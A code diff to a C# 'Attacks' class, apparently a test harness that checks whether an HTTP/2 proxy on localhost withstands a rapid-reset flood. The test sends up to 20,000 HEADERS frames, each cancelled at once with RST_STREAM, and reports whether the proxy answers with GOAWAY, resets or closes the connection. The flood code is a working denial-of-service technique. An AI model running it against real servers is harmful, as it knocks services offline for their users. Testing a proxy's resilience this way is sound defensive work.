@@ -68,6 +68,8 @@ public static class Attacks
         {
             using var stop = new CancellationTokenSource(TimeSpan.FromSeconds(10));
             string? goAway = null;
+            var received = new List<byte>();
+            string? readEnd = null;
             var reader = Task.Run(async () =>
             {
                 var header = new byte[9];
@@ -79,6 +81,7 @@ public static class Attacks
                         var length = (header[0] << 16) | (header[1] << 8) | header[2];
                         var payload = new byte[length];
                         await tls.ReadExactlyAsync(payload, stop.Token);
+                        received.Add(header[3]);
                         if (header[3] == 0x7 && length >= 8)
                         {
                             goAway = $"GOAWAY {ErrorName(BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4)))}";
@@ -86,8 +89,9 @@ public static class Attacks
                         }
                     }
                 }
-                catch (Exception e) when (e is IOException or OperationCanceledException or EndOfStreamException)
+                catch (Exception e)
                 {
+                    readEnd = e.GetType().Name + ": " + e.Message;
                 }
             });
 
@@ -97,6 +101,11 @@ public static class Attacks
             {
                 await tls.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), stop.Token);
                 await tls.WriteAsync(Frame(0x4, 0, 0, []), stop.Token); // SETTINGS
+                while (received.Count == 0 && !reader.IsCompleted)
+                {
+                    await Task.Delay(10, stop.Token); // the proxy's SETTINGS first: the connection is up
+                }
+
                 // :method GET, :scheme https, :path / (static table), :authority localhost (literal, indexed name 1).
                 byte[] block = [0x82, 0x87, 0x84, 0x41, 9, .. "localhost"u8];
                 for (uint stream = 1; sent < 20_000 && goAway is null && !stop.IsCancellationRequested; stream += 2, sent++)
@@ -104,6 +113,11 @@ public static class Attacks
                     var rst = new byte[4];
                     BinaryPrimitives.WriteUInt32BigEndian(rst, 0x8); // CANCEL
                     await tls.WriteAsync((byte[])[.. Frame(0x1, 0x5, stream, block), .. Frame(0x3, 0, stream, rst)], stop.Token);
+                    if (sent % 100 == 99)
+                    {
+                        // A short pause every 100 streams, so the proxy may read all we sent before it closes.
+                        await Task.Delay(5, stop.Token);
+                    }
                 }
             }
             catch (IOException)
@@ -115,7 +129,10 @@ public static class Attacks
             }
 
             await Task.WhenAny(reader, Task.Delay(2000));
-            return $"{goAway ?? (closed ? "closed without GOAWAY" : "no GOAWAY")} after {sent:N0} streams";
+            // A server that closes with our frames still unread sends a TCP reset, and the kernel drops whatever it had
+            // not sent yet, a GOAWAY included: then all a client sees is the reset.
+            var reset = readEnd?.Contains("reset", StringComparison.OrdinalIgnoreCase) == true;
+            return $"{goAway ?? (reset ? "connection reset" : closed ? "connection closed" : "still open")} after {sent:N0} streams";
         }
     }
 
